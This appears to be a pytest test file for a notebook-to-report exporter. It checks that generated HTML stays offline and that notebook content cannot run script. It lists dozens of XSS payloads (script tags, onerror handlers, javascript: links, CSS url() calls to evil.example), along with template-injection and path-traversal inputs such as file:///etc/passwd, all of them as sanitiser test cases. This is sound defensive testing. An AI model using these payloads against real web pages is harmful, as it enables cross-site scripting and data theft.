"""Reports: pages that need nothing from elsewhere and let nothing of the notebook's HTML do harm."""

from __future__ import annotations

import base64
import copy
import html.parser
import itertools
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbformat import NotebookNode, v4

from jupyter_pipeline import reports
from jupyter_pipeline.errors import ReportFailed
from jupyter_pipeline.reports import installed
from tests.helpers.support import require

new_code_cell: Any = v4.new_code_cell  # untyped
new_markdown_cell: Any = v4.new_markdown_cell
new_notebook: Any = v4.new_notebook
new_output: Any = v4.new_output
new_raw_cell: Any = v4.new_raw_cell
from_dict: Any = NotebookNode

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
TEMPLATES = (None, "report", "basic", "classic", "lab")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="9" height="9"/></svg>'
WIDGET = "application/vnd.jupyter.widget-view+json"
FRAME = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type { vertical-align: middle; }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>region</th>
      <th>rate</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>London</td>
      <td>12.5</td>
    </tr>
    <tr>
      <th>1</th>
      <td>Leeds</td>
      <td>NaN</td>
    </tr>
  </tbody>
</table>
</div>"""


class Reader(html.parser.HTMLParser):
    """What stands in a page: its tags with their attributes, its text, its style sheets."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text, self.sheets = "", ""
        self._inside = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag in ("p", "div", "dt", "dd", "li", "td", "pre"):
            self.text += " "
        self._inside = tag if tag in ("style", "script", "annotation", "title") else ""

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside == "style":
            self.sheets += data
        elif not self._inside:
            self.text += data

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]

    @property
    def words(self) -> str:
        return " ".join(self.text.split())


def page(*cells: NotebookNode, metadata: Mapping[str, Any] | None = None, **keywords: Any) -> str:
    notebook = new_notebook(cells=list(cells), metadata=dict(metadata or {}))
    return reports.html(notebook, **{"folder": Path("/nowhere"), **keywords})


def read(*cells: NotebookNode, **keywords: Any) -> Reader:
    return Reader(page(*cells, **keywords))


def shows(data: Mapping[str, Any], **metadata: Any) -> Any:
    return new_code_cell("show", outputs=[new_output("display_data", dict(data), metadata=metadata)])


def text(source: str, **keywords: Any) -> Any:
    return new_markdown_cell(source, **keywords)


def assert_offline(found: str) -> None:
    reader = Reader(found)
    loads = re.compile(r"\s*(https?:|//|ftp:)", re.IGNORECASE)
    for tag, attributes in reader.tags:
        assert tag not in ("script", "iframe", "object", "embed", "link", "base", "frame"), (tag, attributes)
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("alt", "title", "aria-label", "class"):
                continue  # words for people
            assert (tag, name) == ("a", "href") or not loads.match(value), (tag, name, value)
            assert not re.sub(r"[\s\x00-\x20]", "", value).lower().startswith(("javascript:", "data:text")), (
                tag,
                value,
            )
            assert not re.search(r"url\(\s*['\"]?\s*(https?:|//)", value, re.IGNORECASE), value
        if tag == "img":
            assert attributes["src"].startswith("data:image/"), attributes["src"]
            assert "alt" in attributes
    assert not re.search(r"url\(\s*['\"]?\s*(https?:|//)|@import", reader.sheets, re.IGNORECASE)


def everything() -> Any:
    bundles: list[dict[str, Any]] = [
        {"image/png": PIXEL},
        {"image/jpeg": PIXEL},
        {"image/gif": PIXEL},
        {"image/svg+xml": SVG},
        {"text/html": FRAME, "text/plain": "frame"},
        {
            "text/html": '<script src="https://cdn.example/x.js"></script><b>kept</b><img src="http://example.org/a.png">'
        },
        {"text/html": '<iframe src="https://example.org"></iframe><link rel="stylesheet" href="//example.org/x.css">'},
        {"text/markdown": "## From *code*\n\n![far](https://example.org/far.png)"},
        {"text/latex": r"$\frac{1}{2}$"},
        {"text/vnd.mermaid": "graph LR; A-->B<script>alert(1)</script>"},
        {"application/javascript": "alert(1)"},
        {WIDGET: {"model_id": "m", "version_major": 2, "version_minor": 0}, "text/plain": "Slider(3)"},
        {"text/plain": "plain"},
        {"application/json": {"a": 1}},
    ]
    outputs = [new_output("display_data", data) for data in bundles]
    outputs.append(new_output("execute_result", {"text/plain": "result"}, execution_count=1))
    outputs.append(new_output("stream", name="stderr", text="careful\n"))
    outputs.append(new_output("error", ename="ValueError", evalue="bad", traceback=["\x1b[31mValueError\x1b[0m: bad"]))
    cells = [
        text("# A title\n\n## One\n\n$x^2$ and [a link](https://example.org/) ![far](//example.org/x.png)"),
        new_code_cell("print(1)  # code", outputs=outputs),
        new_raw_cell('<img src="https://example.org/raw.png"><b>raw</b>', metadata={"raw_mimetype": "text/html"}),
        text("### Two\n\n```mermaid\ngraph LR; A-->B\n```\n\n```python\nx = 1\n```"),
    ]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"m": {}}, "version_major": 2}}
    return new_notebook(cells=cells, metadata={"widgets": widgets, "language_info": {"name": "python"}})


@pytest.mark.parametrize("template", TEMPLATES)
def test_every_template_is_offline(template: str | None) -> None:
    found = reports.html(everything(), template=template, folder=Path("/nowhere"), provenance={"project": "p"})
    assert_offline(found)
    assert "kept" in found
    assert "cdnjs" not in found
    assert "unpkg" not in found
    assert "widget-state" not in found


@pytest.mark.parametrize("template", TEMPLATES)
def test_the_same_notebook_gives_the_same_page_and_stays_as_it_was(template: str | None) -> None:
    notebook = everything()
    before = copy.deepcopy(notebook)
    keywords: dict[str, Any] = {"template": template, "folder": Path("/nowhere"), "provenance": {"time": "now"}}
    first = reports.html(notebook, **keywords)
    assert first == reports.html(notebook, **keywords)
    assert notebook == before


def test_our_template_tells_the_browser_to_load_nothing() -> None:
    found = read(text("hello"))
    policy = next(meta["content"] for meta in found.named("meta") if "http-equiv" in meta)
    assert "default-src 'none'" in policy
    assert not found.named("script")


ATTACKS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<div style='background:u\\72l(//evil.example/x.png)'>x</div>",
    "<div style='position:fixed;top:0'>x</div>",
    "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/x.png) }</style>",
    "<style>#T_a { background: url(//evil.example/x.png) }</style>",
    "<style>#T_a {} </style><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<video src=//evil.example/x.mp4 autoplay></video><audio src=//evil.example/x.mp3></audio>",
    "<table background=//evil.example/x.png><tr><td>x</td></tr></table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='<img src=x onerror=alert(1)>'>x</p>",
    "<p title=\"<img src=data:image/png;base64,iVBO alt='&quot; onmouseover=alert(1) '>\">x</p>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/png;base64,iVBO&quot; onload=&quot;alert(1)">',
    '<img src="data:image/png;base64,iVBO" alt="&quot; onload=&quot;alert(1)">',
    "</div></main></body><script>alert(1)</script>",
    "\U0010fff00\U0010fff1<p title='\U0010fff00\U0010fff1'>x</p>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext>",
    "<template><script>alert(1)</script></template>",
    "<p/onclick=alert(1)>x",
    "<<script>script>alert(1)<</script>/script>",
)
MARKDOWN_ATTACKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'y')",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](data:image/png;base64,iVBO)',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$",
    '$$</annotation><img src=x onerror="alert(1)">$$',
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "# <img src=x onerror=alert(1)>\n\n## <script>alert(1)</script> two",
    "`<script>alert(1)</script>`",
    '<div title="\n\n$x$\n\n">',
)


@pytest.mark.parametrize("template", [None, "lab", "basic"])
@pytest.mark.parametrize("attack", [*ATTACKS, *MARKDOWN_ATTACKS])
def test_nothing_of_a_notebook_runs_or_loads(attack: str, template: str | None) -> None:
    cells = [
        text(attack),
        shows({"text/html": attack}),
        shows({"text/markdown": attack}),
        shows({"text/latex": attack}),
        shows({"text/plain": attack}),
        shows({"image/svg+xml": attack}),
        shows({"text/vnd.mermaid": attack}),
        shows({"image/png": attack}),
        shows({"image/png": PIXEL}, alt=attack, width=f"1 {attack}"),
        new_raw_cell(attack, metadata={"raw_mimetype": "text/html"}),
        new_raw_cell(attack),
        new_code_cell(
            attack,
            outputs=[
                new_output("stream", text=attack),
                new_output("error", ename=attack, evalue=attack, traceback=[attack]),
            ],
            metadata={"tags": [attack.replace(",", ";")], "alt": attack},
        ),
    ]
    metadata = {"title": attack, "lang": attack, "language_info": {"name": attack}}
    provenance = {attack: attack}
    found = page(*cells, metadata=metadata, template=template, title=attack, provenance=provenance)
    assert_offline(found)
    assert "alert(1)" not in Reader(found).sheets
    if template is None:
        ends = [found.count(f"</{tag}>") for tag in ("main", "body", "html", "footer")]
        assert ends == [1, 1, 1, 1]


def test_parts_of_the_page_cannot_be_imitated() -> None:
    found = page(shows({"text/html": '<div class="report-footer" id="report-main" style="color: red">x</div>'}))
    assert found.count('id="report-main"') == 1
    assert found.count('"report-footer"') == 1


def test_the_title_is_the_first_heading_and_stands_there_once() -> None:
    found = read(new_code_cell("import x"), text("# The *title*\n\nWords."), text("## Next"), title="file")
    assert len(found.named("h1")) == 1
    assert "The title" in found.text
    assert found.text.count("The title") == 1
    assert "<title>The title</title>" in page(text("# The *title*"))


@pytest.mark.parametrize(
    ("cells", "metadata", "title"),
    [
        ((text("Words."),), {}, "my_file"),
        ((text("## One"), text("## Two")), {}, "my_file"),
        ((text("# One"), text("# Two")), {}, "One"),
        ((text("## Alone\n\n### Below"),), {}, "Alone"),
        ((text("# One"),), {"title": "From the metadata"}, "From the metadata"),
        ((text("Words first.\n\n# Then"),), {}, "Then"),
        ((), {}, "my_file"),
    ],
)
def test_where_the_title_comes_from(cells: tuple[NotebookNode, ...], metadata: dict[str, str], title: str) -> None:
    found = page(*cells, metadata=metadata, title="my_file")
    assert f"<title>{title}</title>" in found
    assert len(Reader(found).named("h1")) == 1


def test_headings_have_no_gaps_and_addresses_that_the_contents_lead_to() -> None:
    found = read(
        text("# Title\n\n# First\n\n### Deep\n\n# Second\n\n## Same\n\n## Same\n\n<h2 id='mine'>HTML</h2>"),
        shows({"text/markdown": "#### From code & more"}),
        shows({"text/html": "<h1>In an output</h1>"}),
        text("## $x^2$ Überschrift"),
    )
    levels = [int(tag[1]) for tag, _ in found.tags if re.fullmatch(r"h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in itertools.pairwise(levels))
    addresses = [
        attributes["id"] for tag, attributes in found.tags if re.fullmatch(r"h[2-6]", tag) and "id" in attributes
    ]
    assert addresses == ["First", "Deep", "Second", "Same", "Same-1", "mine", "From-code-more", "x2-Überschrift"]
    links = [attributes["href"] for attributes in found.named("a") if attributes["href"].startswith("#")]
    assert [unquote(link[1:]) for link in links][1:9] == addresses
    assert "From code & more" in found.text


def test_a_page_without_sections_has_no_contents() -> None:
    assert not read(text("# Title\n\nWords.")).named("nav")


def test_landmarks_and_a_way_past_the_contents() -> None:
    found = read(text("# T\n\n## A\n\n## B"), metadata={"lang": "de"}, provenance={"project": "p"})
    for tag in ("main", "header", "footer", "h1"):
        assert len(found.named(tag)) == 1, tag
    assert found.named("html")[0]["lang"] == "de"
    assert {"class": "report-skip", "href": "#report-main"} in found.named("a")
    assert all("aria-label" in nav or "aria-labelledby" in nav for nav in found.named("nav"))


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ({"image/svg+xml": SVG, "image/png": PIXEL}, "data:image/svg+xml;base64,"),
        ({"image/png": PIXEL, "text/html": "<b>x</b>"}, f"data:image/png;base64,{PIXEL}"),
        ({"image/jpeg": PIXEL[:40] + "\n" + PIXEL[40:]}, f"data:image/jpeg;base64,{PIXEL}"),
        ({"image/svg+xml": "<svg><not closed>", "image/png": PIXEL}, f"data:image/png;base64,{PIXEL}"),
        ({"text/html": f"<p>{SVG}</p>"}, "data:image/svg+xml;base64,"),
        ({"text/html": f'<img src="data:image/png;base64,{PIXEL}">'}, f"data:image/png;base64,{PIXEL}"),
    ],
)
def test_pictures_stand_in_the_page(data: dict[str, str], expected: str) -> None:
    (picture,) = read(shows(data)).named("img")
    assert picture["src"].startswith(expected)
    assert picture["alt"] == "Output of cell 1"


def test_the_text_of_a_picture_comes_from_the_output_or_the_cell() -> None:
    assert read(shows({"image/png": PIXEL}, alt="A rising line")).named("img")[0]["alt"] == "A rising line"
    assert read(shows({"image/png": PIXEL}, **{"image/png": {"alt": "It", "width": 20}})).named("img")[0] == {
        "src": f"data:image/png;base64,{PIXEL}",
        "alt": "It",
        "width": "20",
    }
    cell = shows({"image/png": PIXEL})
    cell["metadata"]["alt"] = "Of the cell"
    assert read(cell).named("img")[0]["alt"] == "Of the cell"


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ({"text/plain": "just text <b>"}, "just text <b>"),
        ({"text/html": "<b>bold</b> text", "text/plain": "x"}, "bold text"),
        ({"text/markdown": "*so*", "text/plain": "x"}, "so"),
        ({WIDGET: {"model_id": "1"}, "text/plain": "Slider(3)"}, "Slider(3) An interactive part is shown as text only"),
        ({WIDGET: {"model_id": "1"}, "text/html": "<b>still</b>", "text/plain": "x"}, "still"),
        ({WIDGET: {"model_id": "1"}}, "An output was left out"),
        ({"application/javascript": "x"}, "An interactive part was left out."),
        (
            {"text/html": "<div></div><script>Plotly</script>"},
            "An interactive part was left out. This output has no still",
        ),
        ({"text/html": "<script>x</script>", "text/plain": "Figure()"}, "Figure() An interactive part was left out."),
        ({"text/html": "<b>kept</b><script>x</script>"}, "kept An interactive part was left out."),
        ({"application/json": {"a": 1}, "text/plain": "{'a': 1}"}, "{'a': 1}"),
        ({"text/vnd.mermaid": "graph LR; A-->B"}, "graph LR; A-->B"),
        ({"text/latex": r"\begin{tabular}{l}x\end{tabular}"}, r"\begin{tabular}{l}x\end{tabular}"),
    ],
)
def test_outputs_in_their_best_still_form(data: dict[str, Any], words: str) -> None:
    found = read(shows(data), no_input=True, title="T").words
    assert words in found


def test_streams_are_joined_and_progress_bars_show_their_end() -> None:
    outputs = [
        new_output("stream", text="10%\r 50%\r"),
        new_output("stream", text="100%\ndone \x1b[32mgreen\x1b[0m\x1b]0;title\x07\n"),
        new_output("stream", name="stderr", text="careful <now>\n"),
    ]
    found = page(new_code_cell("x", outputs=outputs))
    words = Reader(found).words
    assert "100% done green" in words
    assert "50%" not in words
    assert '<span class="ansi-green-fg">green</span>' in found
    assert 'class="report-output report-stderr"' in found
    assert "careful <now>" in words
    assert "\x1b" not in found
    assert "\x07" not in found


def test_a_very_long_line_is_no_trouble() -> None:
    line = "<img x" * 50_000
    found = page(new_code_cell("x", outputs=[new_output("stream", text=f"{line}\r{line}\n")]))
    assert found.count("&lt;img x") == 50_000


def test_an_error_begins_with_its_sentence() -> None:
    output = new_output("error", ename="KeyError", evalue="'age'", traceback=["\x1b[31mKeyError\x1b[0m: 'age'"])
    found = page(new_code_cell("x", outputs=[output]))
    assert "<strong>KeyError</strong>: &#x27;age&#x27;" in found
    assert '<span class="ansi-red-fg">KeyError</span>' in found


def test_very_long_text_loses_its_middle_and_says_so() -> None:
    found = page(new_code_cell("x", outputs=[new_output("stream", text="line\n" * 400_000)]))
    assert len(found) < 1_000_000
    assert "lines left out" in found


def test_data_frames_have_their_numbers_on_the_right_and_can_be_scrolled() -> None:
    found = page(shows({"text/html": FRAME}))
    assert '<td class="report-number">12.5</td>' in found
    assert '<td class="report-number">NaN</td>' in found
    assert "<td>London</td>" in found
    assert '<th class="report-number">rate</th>' in found
    assert "<th>region</th>" in found
    assert 'role="region" tabindex="0" aria-label="Output of cell 1"' in found
    assert "only-of-type" not in found


def test_colours_of_a_styled_table_stay() -> None:
    style = "#T_ab_row0_col0 {\n  background-color: #fff7bc;\n  color: #000;\n}\nbody { display: none }"
    table = '<table id="T_ab"><tr><td id="T_ab_row0_col0" class="data row0 col0" >3</td></tr></table>'
    found = page(shows({"text/html": f'<style type="text/css">\n{style}\n</style>\n{table}'}))
    assert "#T_ab_row0_col0{background-color: #fff7bc; color: #000;}" in found
    assert "display: none }" not in found
    assert 'class="report-output report-text-html report-paper"' in found
    assert 'class="report-number data row0 col0"' in found


def test_html_that_is_plain_and_html_that_is_not_look_the_same() -> None:
    plain, odd = page(shows({"text/html": FRAME})), page(shows({"text/html": FRAME.replace("<td>", "<td data-x=1>")}))
    assert plain == odd


@pytest.mark.parametrize(
    "source",
    ["$x^2$", "$$\\sum_{i=1}^n x_i$$", "\\begin{align} a &= b \\\\ c &= d \\end{align}", "text $a<b$ text", r"\\(x\\)"],
)
def test_formulas_are_mathml(source: str) -> None:
    found = read(text(source))
    assert found.named("math")
    assert "$" not in found.text


@pytest.mark.parametrize("source", [r"$\unknowncommand{x}$", r"$\left($", r"$$\badcommand$$"])
def test_a_formula_that_is_not_understood_shows_its_source(source: str) -> None:
    assert source in read(text(source)).text


def test_an_output_in_latex_is_mathml() -> None:
    found = read(shows({"text/latex": r"$\displaystyle \int_0^1 x\,dx$", "text/plain": "1/2"}))
    assert found.named("math")


def test_relative_pictures_are_taken_from_the_allowed_folder_only(tmp_path: Path) -> None:
    project, secret = tmp_path / "project", tmp_path / "secret.png"
    folder = project / "analysis"
    folder.mkdir(parents=True)
    for path in (secret, folder / "a b.png", project / "figure.png", project / "notes.txt"):
        path.write_bytes(base64.b64decode(PIXEL))
    (folder / "link.png").symlink_to(secret)
    (folder / "inside.png").symlink_to(project / "figure.png")
    (folder / "drawing.svg").write_text(SVG, encoding="utf-8")
    (folder / "out").symlink_to(tmp_path)
    good = ("a%20b.png", "../figure.png", "inside.png", "drawing.svg", "../figure.png?raw=1#x")
    bad = (
        "link.png",
        "../../secret.png",
        str(secret),
        "out/secret.png",
        "missing.png",
        "../notes.txt",
        "..",
        "%00.png",
    )
    for address in good:
        for source in (f"![p]({address})", f'<img src="{address}">'):
            (picture,) = read(text(source), folder=folder, allowed=project).named("img")
            assert picture["src"].startswith("data:image/")
    for address in (*bad, "file:///etc/passwd", f"file://{secret}", "~/x.png"):
        for source in (f"![p]({address})", f"<img src='{address}'>"):
            found = read(text(source), folder=folder, allowed=project)
            assert not found.named("img"), address
            assert "left out" in found.text, address
    assert "https://example.org/far.png" in read(text("![far](https://example.org/far.png)")).text


def test_attachments_stand_in_the_page() -> None:
    found = read(text("![it](attachment:a%20b.png)", attachments={"a b.png": {"image/png": PIXEL}}))
    assert found.named("img")[0] == {"src": f"data:image/png;base64,{PIXEL}", "alt": "it"}
    assert "no such attachment" in read(text("![it](attachment:none.png)")).text


def test_code_can_be_folded_and_hidden() -> None:
    cells = (
        new_code_cell("secret_code = 1", outputs=[new_output("stream", text="printed")]),
        new_code_cell("silent = 2"),
    )
    assert "secret_code" in read(*cells).text
    assert [block.get("open") for block in read(*cells).named("details")] == ["", ""]
    hidden = read(*cells, no_input=True)
    assert "secret_code" not in hidden.text
    assert "printed" in hidden.text
    assert "cell 1" in read(*cells).text
    assert "cell 1" not in read(*cells, no_prompt=True).text
    folded = new_code_cell("x = 1", metadata={"jupyter": {"source_hidden": True}})
    assert "open" not in read(folded).named("details")[0]
    parameters = new_code_cell("x = 1", metadata={"tags": ["injected-parameters"]})
    assert "Parameters of this run" in read(parameters).text


def test_where_it_comes_from_stands_at_the_end() -> None:
    provenance = {
        "project": "pincer",
        "requested_by": "Ada <ada@example.org>",
        "job": "abc",
        "note": "a\nb",
        "empty": "",
    }
    found = read(text("x"), provenance=provenance).words
    assert "Project pincer Requested by Ada <ada@example.org> Job abc Note a b" in found
    assert "Empty" not in found
    assert not read(text("x")).named("dl")


def test_raw_cells() -> None:
    html_cell = new_raw_cell("<b>bold</b>", metadata={"raw_mimetype": "text/html"})
    assert "<b>bold</b>" in page(html_cell)
    assert "<pre>&lt;b&gt;bold" in page(new_raw_cell("<b>bold</b>"))
    assert "for-latex" not in page(new_raw_cell("for-latex", metadata={"raw_mimetype": "text/latex"}))


def test_basic_is_a_part_of_a_page_as_nbconvert_makes_it() -> None:
    import nbconvert.exporters

    HTMLExporter: Any = nbconvert.exporters.HTMLExporter  # noqa: N806  # untyped
    notebook = new_notebook(cells=[text("# Title\n\nWords."), shows({"text/plain": "out"})])
    ours = reports.html(notebook, template="basic", folder=Path("/nowhere"))
    theirs = HTMLExporter(template_name="basic").from_notebook_node(notebook)[0]
    assert "<html" not in ours
    assert "".join(Reader(ours).words.split()) == "".join(Reader(theirs).words.split())
    outer = [(tag, attributes.get("class", "").split()) for tag, attributes in Reader(theirs).tags if tag == "div"]
    mine = [(tag, attributes.get("class", "").split()) for tag, attributes in Reader(ours).tags if tag == "div"]
    assert [tag for tag in outer if "highlight" not in tag[1]] == [tag for tag in mine if "highlight" not in tag[1]]


@pytest.mark.parametrize("template", ["classic", "lab"])
def test_the_other_templates_keep_their_looks(template: str) -> None:
    import nbconvert.exporters

    HTMLExporter: Any = nbconvert.exporters.HTMLExporter  # noqa: N806  # untyped
    notebook = new_notebook(cells=[text("# Title"), shows({"image/png": PIXEL})])
    ours = Reader(reports.html(notebook, template=template, folder=Path("/nowhere"), title="Notebook"))
    theirs = Reader(HTMLExporter(template_name=template).from_notebook_node(notebook)[0])
    assert "".join(ours.words.split()) == "".join(theirs.words.split())
    assert len(ours.sheets) > 0.99 * len(theirs.sheets) - 3000
    assert not read(*notebook.cells, template=template, no_input=True).text.count("In")


@pytest.mark.parametrize("template", ["no_such", "../lab", "/etc", "", ".", "report/../lab", "\0"])
def test_an_unknown_template_is_refused_with_the_names(template: str, tmp_path: Path) -> None:
    with pytest.raises(ReportFailed, match="There is no template") as caught:
        page(text("x"), template=template, folder=tmp_path)
    assert "`lab`" in str(caught.value)
    assert "report" in caught.value.remedy


def own_template(folder: Path, index: str, conf: Mapping[str, Any] | None = None) -> None:
    folder.mkdir(parents=True)
    (folder / "conf.json").write_text(json.dumps({"base_template": "lab", **(conf or {})}), encoding="utf-8")
    (folder / "index.html.j2").write_text(index, encoding="utf-8")


def test_a_template_of_the_project(tmp_path: Path) -> None:
    index = """{%- extends 'lab/index.html.j2' -%}
{%- block body_footer -%}<p>Our unit</p><img src="https://example.org/logo.png"><script>go()</script>{{ super() }}
<script src="https://example.org/x.js"></script><style>a { background: url(https://example.org/y.png) }</style>
{%- endblock -%}"""
    own_template(tmp_path / "templates" / "ours", index)
    found = page(text("# T"), template="templates/ours", folder=tmp_path / "analysis", allowed=tmp_path)
    assert "Our unit" in found
    assert "<script>go()</script>" in found
    assert "example.org" not in found


@pytest.mark.parametrize(
    "index",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '../../secret' %}",
        "{{ 1 / }}",
        "{{ nb.cells.append }}{{ x.y.z }}",
    ],
)
def test_a_template_of_the_project_cannot_reach_out(index: str, tmp_path: Path) -> None:
    own_template(tmp_path / "project" / "ours", index)
    (tmp_path / "secret").write_text("secret", encoding="utf-8")
    with pytest.raises(ReportFailed, match="does not work"):
        page(text("x"), template="ours", folder=tmp_path / "project")


def test_a_template_of_the_project_runs_no_code_of_its_own(tmp_path: Path) -> None:
    made = tmp_path / "made"
    popen = {"type": "subprocess.Popen", "args": ["touch", str(made)]}
    own_template(tmp_path / "ours", "{{ 1 }}", {"preprocessors": {"1-x": popen}})
    assert page(text("x"), template="ours", folder=tmp_path).strip() == "1"
    assert not made.exists()
    (tmp_path / "ours" / "x.j2").symlink_to("/etc/hostname")
    with pytest.raises(ReportFailed, match="leads out"):
        page(text("x"), template="ours", folder=tmp_path)


def test_other_formats(tmp_path: Path) -> None:
    notebook = new_notebook(
        cells=[text("# T"), new_code_cell("x = 1", outputs=[new_output("display_data", {"image/png": PIXEL})])],
        metadata={"language_info": {"name": "python", "file_extension": ".py", "nbconvert_exporter": "python"}},
    )
    before = copy.deepcopy(notebook)
    written, extension = reports.export(notebook, "notebook", folder=tmp_path)
    assert extension == ".ipynb"
    assert json.loads(written)["cells"][0]["source"] in ("# T", ["# T"])
    markdown, extension = reports.export(notebook, "markdown", folder=tmp_path)
    assert extension == ".md"
    assert f"![png](data:image/png;base64,{PIXEL}" in str(markdown)
    files: dict[str, bytes] = {}
    markdown, _ = reports.export(notebook, "markdown", folder=tmp_path, title="doc", files=files)
    assert files == {"doc_files/doc_1_0.png": base64.b64decode(PIXEL)}
    assert "![png](doc_files/doc_1_0.png)" in str(markdown)
    assert "x = 1" not in str(reports.export(notebook, "markdown", folder=tmp_path, no_input=True)[0])
    script, extension = reports.export(notebook, "script", folder=tmp_path)
    assert extension == ".py"
    assert "x = 1" in str(script)
    found, extension = reports.export(notebook, "html", folder=tmp_path)
    assert extension == ".html"
    assert found == reports.html(notebook, folder=tmp_path)
    with pytest.raises(ReportFailed, match="no format `rst`"):
        reports.export(notebook, "rst", folder=tmp_path)
    assert notebook == before


def test_a_notebook_cannot_name_a_class_for_its_script(tmp_path: Path) -> None:
    metadata = {"language_info": {"name": "R", "file_extension": ".r", "nbconvert_exporter": "subprocess.Popen"}}
    script, extension = reports.export(
        new_notebook(cells=[new_code_cell("x <- 1")], metadata=metadata), "script", folder=tmp_path
    )
    assert extension == ".r"
    assert "x <- 1" in str(script)


def test_importing_is_cheap() -> None:
    code = "import sys, jupyter_pipeline.reports, jupyter_pipeline.notebooks.driver.imports; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split()
    assert not [
        name for name in ("nbformat", "nbconvert", "bleach", "nh3", "tinycss2", "jinja2", "pygments") if name in loaded
    ]


def test_lean_imports_leave_out_the_checkers_only() -> None:
    code = (
        "import sys; from jupyter_pipeline.notebooks.driver.imports import lean_imports as lean; "
        "sys.modules['webcolors'] = sys;"
        "lean(); import nbformat.v4 as v; import nbformat; nbformat.validate(v.new_notebook());"
        "import jsonschema; print(sys.modules['fqdn'], sys.modules['webcolors'] is sys)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["None", "True"]


@pytest.mark.parametrize("folder", ["short", "l" * 120])
def test_pdf(folder: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also where the path of the folder for temporary files is too long for the browser's socket in it."""
    require(shutil.which("chromium") is not None, "chromium")
    (tmp_path / folder).mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / folder))
    found = reports.pdf(page(text("# T\n\nWords."), shows({"image/png": PIXEL})))
    assert found.startswith(b"%PDF")
    assert len(found) > 1000


def test_pdf_without_a_browser(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(ReportFailed, match="There is no Chromium or Chrome here") as caught:
        reports.pdf("<p>x</p>")
    assert "Install one" in caught.value.remedy


def test_pdf_with_a_browser_that_does_not_work(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    browser = tmp_path / "chromium"
    browser.write_text("#!/bin/sh\necho it is broken >&2\nexit 1\n", encoding="utf-8")
    browser.chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(ReportFailed, match="chromium did not make the PDF: it is broken"):
        reports.pdf("<p>x</p>")


TEXTS = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="<>/\"'=abps $\\{}#*_`[]()!-|\n&;:\U0010fff0\U0010fff1" + "0", max_size=60),
    st.sampled_from((*ATTACKS, *MARKDOWN_ATTACKS, FRAME, SVG, PIXEL)),
)
KINDS = st.sampled_from(
    (
        "text/html",
        "text/plain",
        "text/markdown",
        "text/latex",
        "image/png",
        "image/svg+xml",
        "application/javascript",
        WIDGET,
        "x",
    )
)
